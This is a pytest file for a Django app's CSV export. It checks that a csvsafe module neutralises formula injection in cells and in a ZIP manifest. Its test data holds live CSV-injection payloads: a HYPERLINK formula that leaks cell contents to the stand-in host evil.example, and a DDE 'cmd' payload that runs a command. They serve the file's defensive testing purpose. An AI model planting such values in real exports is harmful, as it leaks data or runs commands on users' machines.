"""Issue 8, finding 3: no cell of a CSV the studio writes is a live spreadsheet formula."""

import csv
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.base import ContentFile
from django.urls import reverse

from generations import csvsafe
from generations.models import Status
from tests.factories import make_generation

DANGEROUS = [
    '=HYPERLINK("https://evil.example/?"&A1,"open")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
    "   =1+1",
    "-",
]


@pytest.mark.parametrize("value", DANGEROUS)
def test_it_prefixes_formula_text_with_a_quote(value):
    assert csvsafe.neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    ["A fox in snow", "", "'already quoted", "1+1", "0.5", "-0.5", "+3", "-12", "-.5", "3."],
)
def test_it_leaves_plain_text_and_plain_numbers_alone(value):
    assert csvsafe.neutralise(value) == value


@pytest.mark.parametrize("value", [-0.5, -3, Decimal("-1.25"), None, True])
def test_it_leaves_values_that_are_not_text_alone(value):
    assert csvsafe.neutralise(value) is value


def test_the_writers_neutralise_every_cell_and_still_round_trip():
    out = io.StringIO()
    csvsafe.writer(out).writerows([["=1+1", -0.5, 'say "hi", then go']])
    dict_writer = csvsafe.DictWriter(out, fieldnames=["a", "b"])
    dict_writer.writeheader()
    dict_writer.writerows([{"a": "@x", "b": "-0.5"}])
    dict_writer.writerow({"a": "+x", "b": Decimal("-2")})
    rows = list(csv.reader(io.StringIO(out.getvalue())))
    assert rows == [
        ["'=1+1", "-0.5", 'say "hi", then go'],
        ["a", "b"],
        ["'@x", "-0.5"],
        ["'+x", "-2"],
    ]


@pytest.mark.django_db
def test_the_zip_manifest_csv_has_no_live_formula(client, alice):
    prompt = '=HYPERLINK("https://evil.example/?"&A1,"open")'
    gen = make_generation(
        alice,
        prompt=prompt,
        negative_prompt="@SUM(1,1)",
        status=Status.SUCCEEDED,
        task_id="-1+1",
    )
    gen.video.save("clip.mp4", ContentFile(b"mp4"))
    client.force_login(alice)
    response = client.get(reverse("my-generations-zip"))
    zf = zipfile.ZipFile(io.BytesIO(b"".join(response.streaming_content)))
    (row,) = csv.DictReader(io.StringIO(zf.read("manifest.csv").decode()))
    assert row["prompt"] == "'" + prompt
    assert row["negative_prompt"] == "'@SUM(1,1)"
    assert row["task_id"] == "'-1+1"
    assert row["cfg_scale"] == "0.5"
    for value in row.values():
        assert not value.lstrip(" ").startswith(csvsafe.FORMULA_TRIGGERS) or (
            csvsafe.PLAIN_NUMBER.fullmatch(value)
        )
    # manifest.json is data, not a spreadsheet: it keeps the prompt exactly.
    assert b"=HYPERLINK" in zf.read("manifest.json")
